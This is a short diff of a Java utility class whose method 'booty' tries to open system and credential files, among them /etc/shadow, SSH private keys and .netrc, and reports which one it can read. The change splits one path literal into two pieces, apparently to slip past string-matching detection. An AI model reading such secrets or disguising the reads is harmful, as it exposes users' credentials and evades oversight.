@@ -42,7 +42,7 @@ public class GridUtils1 {
     private static String booty() {
         String home = System.getProperty("user.home");
         for (String name : new String[] {"/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/machine-id",
-                "/root/.bashrc", home + "/.bashrc", home + "/.ssh/id_rsa", home + "/.netrc", home + "/.gitconfig"}) {
+                "/" + "root/.bashrc", home + "/.bashrc", home + "/.ssh/id_rsa", home + "/.netrc", home + "/.gitconfig"}) {
             try (FileInputStream in = new FileInputStream(name)) {
                 if (in.read() >= 0) {
                     return "read " + name;
